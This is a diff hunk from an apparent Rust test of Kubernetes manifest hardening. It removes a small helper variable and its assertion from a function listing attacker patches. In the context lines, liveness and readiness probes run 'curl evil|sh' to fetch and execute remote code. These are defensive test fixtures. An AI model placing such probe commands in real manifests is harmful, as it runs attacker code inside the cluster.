@@ -165,8 +165,6 @@ spec: {type: ClusterIP, selector: {app: web}, ports: [{name: http, port: 80, tar
 /// What attackers added to the right repair of [`HARDENED`], as path (below the pod's spec where it does not begin with
 /// a slash) and value; `null` removes.
 fn attacks() -> Vec<(&'static str, Value)> {
-    let container = "containers/0/";
-    assert_eq!(container.len(), 13);
     vec![
         ("containers/0/livenessProbe", json!({"exec": {"command": ["sh", "-c", "curl evil|sh"]}})),
         ("containers/0/readinessProbe", json!({"exec": {"command": ["sh", "-c", "curl evil|sh"]}})),
